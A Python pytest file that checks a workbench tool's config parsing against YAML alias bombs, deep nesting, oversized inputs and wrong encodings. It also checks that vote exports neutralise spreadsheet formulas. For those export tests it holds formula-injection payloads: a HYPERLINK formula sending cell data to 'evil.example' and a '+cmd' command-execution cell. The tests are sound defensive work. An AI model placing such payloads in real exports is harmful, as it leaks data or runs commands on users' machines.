"""Config files built to exhaust memory or time, and honest mistakes in them: each refused fast with its reason."""

from __future__ import annotations

import gc
import sqlite3
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import psutil
import pytest

from workbench.core import config as cfg
from workbench.core.errors import ConfigError, InputError, WorkbenchError, short_repr

MB = 1024 * 1024


def _bounded(action: Callable[[], object]) -> BaseException:
    """Runs ``action``, which must raise; returns the error after asserting that memory stayed under 100 MB."""
    process = psutil.Process()
    gc.collect()
    rss_before = process.memory_info().rss
    tracemalloc.start()
    try:
        with pytest.raises(WorkbenchError) as info:
            action()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    growth = process.memory_info().rss - rss_before
    assert peak < 100 * MB, f"{peak / MB:.0f} MB allocated"
    assert growth < 100 * MB, f"RSS grew by {growth / MB:.0f} MB"
    return info.value


def test_billion_laughs_refused_before_building_values(yaml_bomb):
    error = _bounded(lambda: cfg.parse_yaml(yaml_bomb, "plan", "bomb.yaml"))
    assert "expands to more than 1,000,000 values (aliases counted in full)" in str(error)


@pytest.mark.parametrize(
    "where",
    [
        "entries:\n  - prompt: x\n    seeds: 0\n    bogus: *i\n",  # an unknown row field
        "entries:\n  - prompt: *i\n    seeds: 0\n",  # a known field
        "bogus: *i\nentries: [{prompt: x, seeds: 0}]\n",  # an unknown plan key
    ],
    ids=["unknown-row-field", "row-field", "unknown-plan-key"],
)
def test_batch_plan_bombs_fail_fast(tmp_path, where, yaml_bomb):
    from workbench.batch.plan import load_plan

    path = tmp_path / "plan.yaml"
    path.write_text(yaml_bomb + "\n" + where, encoding="utf-8")
    error = _bounded(lambda: load_plan(path))
    assert "expands to more than 1,000,000 values" in str(error) and "plan.yaml" in str(error)


@pytest.mark.parametrize("key", ["instructions", "bogus", "genre"])
def test_campaign_bombs_fail_fast(tmp_path, key, yaml_bomb):
    from workbench.campaigns.config import load_config

    path = tmp_path / "campaign.yaml"
    path.write_text(yaml_bomb + f"\nname: c\n{key}: *i\n", encoding="utf-8")
    error = _bounded(lambda: load_config(path))
    assert "campaign file=" in str(error) and "expands to more than 1,000,000 values" in str(error)


def test_campaign_bomb_from_the_editor_text(yaml_bomb):
    from workbench.core.config import parse_yaml

    error = _bounded(lambda: parse_yaml(yaml_bomb + "\ninstructions: *i\n", "campaign YAML", "editor"))
    assert str(error).startswith("campaign YAML='editor': expands to more than")


def test_huge_seed_count_fails_before_building_the_list(tmp_path):
    from workbench.batch.plan import load_plan

    path = tmp_path / "plan.yaml"
    path.write_text("entries:\n  - prompt: x\n    seeds: {start: 0, count: 1000000000}\n", encoding="utf-8")
    error = _bounded(lambda: load_plan(path))
    assert "count 1000000000 is more than 100000 seeds in one row" in str(error)


def test_seed_ranges_adding_up_past_the_limit(tmp_path):
    from workbench.batch.plan import load_plan

    path = tmp_path / "plan.yaml"
    ranges = ", ".join(f"'{i * 100000}-{i * 100000 + 99999}'" for i in range(20))
    path.write_text(f"entries:\n  - prompt: x\n    seeds: [{ranges}]\n", encoding="utf-8")
    error = _bounded(lambda: load_plan(path))
    assert "more than 100000 seeds in one row" in str(error)


def test_grid_product_counted_before_expanding(tmp_path):
    from workbench.batch.plan import load_plan

    prompts = ", ".join(f"p{i}" for i in range(200))
    path = tmp_path / "plan.yaml"
    path.write_text(
        f"grid: {{steps: [{', '.join(str(i) for i in range(1, 101))}]}}\n"
        f"entries:\n  - prompt: [{prompts}]\n    seeds: '0-99999'\n",
        encoding="utf-8",
    )
    error = _bounded(lambda: load_plan(path))
    assert "the row expands to 2,000,000,000 jobs; the limit is 1,000,000" in str(error)


def test_json_nested_100000_deep(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(ConfigError, match="nests deeper than 64 levels"):
        cfg.read_json(path, "plan")


def test_yaml_nested_too_deep():
    with pytest.raises(ConfigError, match="nests deeper than 64 levels"):
        cfg.parse_yaml("[" * 100 + "]" * 100, "plan")


def test_yaml_recursive_alias():
    with pytest.raises(ConfigError, match="refers to a value containing itself"):
        cfg.parse_yaml("a: &a [1, *a]\n", "plan")


def test_oversized_config_refused_before_reading(tmp_path, monkeypatch):
    path = tmp_path / "big.yaml"
    path.write_text("a: 1\n" * 1000, encoding="utf-8")
    monkeypatch.setattr(cfg, "MAX_CONFIG_BYTES", 100)
    with pytest.raises(ConfigError, match=r"is 0.0 MB; config files are limited to 0 MB"):
        cfg.read_text(path, "plan", max_bytes=100)


@pytest.mark.parametrize(
    ("raw", "found"),
    [
        ("prompt: Café crème\n".encode("latin-1"), "Windows-1252 / Latin-1"),
        (b"prompt: \x81\x8d\x8f\x90\x9d\n", "Latin-1 (ISO-8859-1) or another 8-bit encoding"),
        (b"\x00\x01\x02\xff binary", "binary data"),
    ],
)
def test_wrong_encoding_named(tmp_path, raw, found):
    path = tmp_path / "plan.yaml"
    path.write_bytes(raw)
    with pytest.raises(ConfigError) as info:
        cfg.read_yaml(path, "plan")
    message = str(info.value)
    assert "is not UTF-8 (byte 0x" in message and found in message and "Save it as UTF-8" in message


def test_utf16_and_bom_are_read(tmp_path):
    (tmp_path / "a.yaml").write_bytes("name: é\n".encode("utf-16"))
    (tmp_path / "b.yaml").write_bytes(b"\xef\xbb\xbfname: x\n")
    assert cfg.read_yaml(tmp_path / "a.yaml", "f") == {"name": "é"}
    assert cfg.read_yaml(tmp_path / "b.yaml", "f") == {"name": "x"}


def test_latin1_csv_plan_named(tmp_path):
    from workbench.batch.plan import load_plan

    path = tmp_path / "plan.csv"
    path.write_bytes("prompt,seed\nCafé,1\n".encode("latin-1"))
    with pytest.raises(InputError, match="is not UTF-8 .*Windows-1252 / Latin-1"):
        load_plan(path)


def test_short_repr_is_bounded_for_huge_values():
    shared: list[object] = ["x"] * 9
    for _ in range(9):
        shared = [shared] * 9  # 9**10 leaves if expanded
    assert len(short_repr(shared)) <= 120
    assert short_repr(10**100_000) == "<a whole number of about 100001 digits>"
    assert short_repr("abc") == "'abc'"


def test_huge_integer_in_a_field_is_shown_by_size():
    with pytest.raises(ConfigError, match="about 5001 digits"):
        cfg.coerce(str, 10**5000, "name")


def test_campaign_create_holds_no_write_lock_while_hashing(store, monkeypatch):
    """Another writer gets the store while the slow per-rater hashing runs: it happens before BEGIN IMMEDIATE."""
    from workbench.campaigns import db
    from workbench.campaigns.config import config_from_dict

    config = config_from_dict(
        {
            "name": "locks",
            "genre": "spa",
            "systems": [{"name": f"s{i}", "import_dir": "/x", "mapping_csv": "m.csv"} for i in range(2)],
            "prompts": [{"id": "p0"}],
            "raters": ["r0", "r1"],
            "votes_per_rater": 1,
            "gold_rate": 0.0,
            "repeat_rate": 0.0,
        }
    )
    real_hash = db._hash_code
    writes: list[str] = []

    def hash_while_another_writes(code: str, salt: str) -> str:
        other = sqlite3.connect(store.path, timeout=0.05)
        try:
            other.execute("BEGIN IMMEDIATE")  # fails with "database is locked" if create holds the lock
            other.execute("ROLLBACK")
            writes.append("ok")
        finally:
            other.close()
        return real_hash(code, salt)

    monkeypatch.setattr(db, "_hash_code", hash_while_another_writes)
    db.create_campaign(store, config)
    assert writes == ["ok", "ok"]


@pytest.fixture
def store(tmp_path):
    from workbench.core.store import Store

    return Store(tmp_path / "s.sqlite")


def test_read_table_rejects_duplicate_header(tmp_path):
    path = tmp_path / "m.csv"
    path.write_text("prompt_id,file,file\np0,a.wav,b.wav\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="column 3 repeats an earlier column name"):
        cfg.read_table(path, "mapping")


def test_read_text_on_a_missing_file(tmp_path: Path):
    with pytest.raises(ConfigError, match="file not found"):
        cfg.read_text(tmp_path / "none.yaml", "plan")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("-3.5", "-3.5"),  # a plain number cannot be a formula
        ("nice mix", "nice mix"),
        (5, 5),
    ],
)
def test_formula_cells_are_written_as_text(value, shown):
    from workbench.core.cells import safe_cell

    assert safe_cell(value) == shown


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_vote_export_neutralises_a_rater_comment(tmp_path, monkeypatch, suffix):
    import pandas as pd

    from workbench.campaigns import db
    from workbench.campaigns import export as export_module

    row = {name: None for name in db.VOTE_COLUMNS}
    row.update(comment='=HYPERLINK("http://evil.example","x")', is_gold=0, fit_left=None, fit_right=None)
    monkeypatch.setattr(db, "get_campaign", lambda store, name: None)
    monkeypatch.setattr(db, "vote_rows", lambda store, name: [row])
    out = tmp_path / f"votes{suffix}"
    assert export_module.export_votes(None, "c", out) == 1  # type: ignore[arg-type]
    frame = pd.read_csv(out) if suffix == ".csv" else pd.read_parquet(out)
    assert frame["comment"][0] == '\'=HYPERLINK("http://evil.example","x")'


def test_corrupt_stored_recipe_names_the_run_and_its_sidecar(tmp_path):
    from dataclasses import fields

    from workbench.core.store import RunRow, Store

    values = {f.name: "x" for f in fields(RunRow)}
    values.update(take_index=0, seed=1, duration_s=1.0, lora_scale=None, id="r1", recipe_json="{broken")
    values.update(sidecar_path="/runs/r1.json")
    store = Store(tmp_path / "s.sqlite")
    store.add_runs([RunRow(**values)])
    assert [r.id for r in store.list_runs()] == ["r1"]  # the listing does not parse recipes
    with pytest.raises(
        InputError, match=r"run='r1': its stored recipe is corrupt .*the same recipe is in /runs/r1.json"
    ):
        _ = store.get_run("r1").recipe


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b"file,caption,caption\na.wav,x,y\n", "column 'caption' appears twice in the header"),
        ("file;caption\na.wav;Café\n".encode("latin-1"), "is not UTF-8 (byte 0xe9 at offset 22)"),
        (b"[" * 1000 + b"]" * 1000, "nests deeper than 64 levels"),
    ],
    ids=["duplicate-header", "latin1", "deep-json"],
)
def test_lora_manifest_problems_are_reported(tmp_path, raw, message):
    from lora.dataset_sources import read_manifest

    path = tmp_path / ("manifest.json" if raw.startswith(b"[") else "manifest.csv")
    path.write_bytes(raw)
    candidates, issues = read_manifest(path)
    assert candidates == [] and len(issues) == 1
    assert issues[0].reason.startswith("cannot read the manifest: ") and message in issues[0].reason
